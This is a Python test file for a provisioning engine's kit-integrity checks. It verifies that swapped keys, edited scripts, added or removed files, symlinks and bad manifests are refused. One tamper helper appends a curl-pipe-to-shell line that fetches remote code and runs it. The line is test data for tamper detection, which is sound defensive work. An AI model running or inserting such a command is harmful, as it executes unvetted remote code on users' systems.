"""A kit's manifest: every file but the manifest and the site's policy, checked at start."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from engine.errors import SecurityError
from engine.provision import load_kit, load_project, provision, verify_kit
from engine.security import write_key_pair

from .conftest import WriteProject


@pytest.fixture
def kits(write_project: WriteProject, tmp_path: Path) -> Path:
    provision(load_project(write_project()), tmp_path / "kits")
    return tmp_path / "kits"


def test_a_fresh_kit_verifies_and_its_policy_may_be_edited(kits: Path) -> None:
    (kits / "site-1" / "policy.conf").write_text("allow_custom_code = false\n", encoding="utf-8")

    for name in ("server", "site-1", "site-2", "alice"):
        verify_kit(kits / name)


def tamper_secret_key(kit: Path) -> str:
    """Swap the site's secret key for another valid one (same name, same mode): still tampering."""
    other = kit.parent / "other"
    write_key_pair(other, "site-1")
    os.replace(other / "site-1.key_secret", kit / "keys" / "site-1.key_secret")
    return "keys/site-1.key_secret: changed since the kit was provisioned (sha256 differs)"


def change_start_script(kit: Path) -> str:
    with (kit / "start.sh").open("a", encoding="utf-8") as script:
        script.write("curl https://example.org/x | sh\n")
    return "start.sh: changed since the kit was provisioned (sha256 differs)"


def remove_server_key(kit: Path) -> str:
    (kit / "keys" / "server.key").unlink()
    return "keys/server.key: removed since the kit was provisioned"


def add_a_file(kit: Path) -> str:
    (kit / "keys" / "extra.key").write_text("x\n", encoding="utf-8")
    return "keys/extra.key: added since the kit was provisioned (not in MANIFEST.json)"


@pytest.mark.parametrize(
    "tamper",
    [tamper_secret_key, change_start_script, remove_server_key, add_a_file],
    ids=["secret-key-swapped", "start-script-changed", "file-removed", "file-added"],
)
def test_a_changed_kit_is_refused_naming_the_file(kits: Path, tamper) -> None:
    kit = kits / "site-1"
    relative = tamper(kit)

    with pytest.raises(SecurityError) as caught:
        load_kit(kit)

    lines = str(caught.value).splitlines()
    assert lines[0] == (
        f"{kit}: the kit was tampered with (1 file); restore the kit from the copy its project admin sent, "
        "or ask for a new one (`flengine provision`)"
    )
    assert lines[1:] == [f"{kit}/{relative}"]


def test_every_changed_file_is_named_at_once(kits: Path) -> None:
    kit = kits / "server"
    (kit / "keys" / "allowlist" / "mallory.key").write_text("x\n", encoding="utf-8")
    (kit / "participants.json").write_text("{}\n", encoding="utf-8")

    with pytest.raises(SecurityError, match=r"\(2 files\)") as caught:
        verify_kit(kit)

    assert [line.split(": ", 1)[0] for line in str(caught.value).splitlines()[1:]] == [
        f"{kit}/keys/allowlist/mallory.key",
        f"{kit}/participants.json",
    ]


def test_a_symlink_in_a_kit_is_refused_not_followed(kits: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").write_text("x\n", encoding="utf-8")
    (kits / "alice" / "link").symlink_to(tmp_path / "elsewhere")

    with pytest.raises(SecurityError, match=r"alice/link: a kit holds only plain files and folders, not links"):
        verify_kit(kits / "alice")


@pytest.mark.parametrize(
    ("content", "match"),
    [(None, "cannot read the kit's manifest"), ("[1, 2]", "not a valid kit manifest")],
    ids=["missing", "malformed"],
)
def test_a_kit_without_a_valid_manifest_is_refused(kits: Path, content: str | None, match: str) -> None:
    manifest = kits / "site-2" / "MANIFEST.json"
    manifest.unlink()
    if content is not None:
        manifest.write_text(content, encoding="utf-8")

    with pytest.raises(SecurityError, match=match):
        verify_kit(kits / "site-2")


def test_a_server_kit_copied_over_an_older_one_ignores_the_revoked_key_left_behind(
    write_project: WriteProject, kits: Path, tmp_path: Path
) -> None:
    deployed = tmp_path / "deployed"
    shutil.copytree(kits / "server", deployed)
    provision(load_project(write_project(replace={"  { name = site-2, org = org-b }\n": ""})), kits, remove=True)

    shutil.copytree(kits / "server", deployed, dirs_exist_ok=True)  # "copy the new kit over the old one"
    kit = load_kit(deployed)

    assert (deployed / "keys" / "allowlist" / "site-2.key").is_file()
    assert kit.ignored_files == ("keys/allowlist/site-2.key",)
    assert kit.allowlist == ("alice", "site-1")
    assert kit.load_allowlist().identities() == ["alice", "site-1"]
    assert kit.cell_security().allowlist.identities() == ["alice", "site-1"]


def test_only_the_allowlist_folder_may_hold_files_the_manifest_does_not_list(kits: Path) -> None:
    kit = kits / "server"
    (kit / "keys" / "allowlist" / "mallory.key").write_text("x\n", encoding="utf-8")

    assert load_kit(kit).ignored_files == ("keys/allowlist/mallory.key",)  # never read, so never a key
    with pytest.raises(SecurityError, match=r"mallory.key: added since the kit was provisioned"):
        verify_kit(kit)  # strict unless the caller names where unlisted files are ignored
    (kit / "keys" / "mallory.key").write_text("x\n", encoding="utf-8")
    with pytest.raises(SecurityError, match=r"keys/mallory.key: added since the kit was provisioned"):
        load_kit(kit)
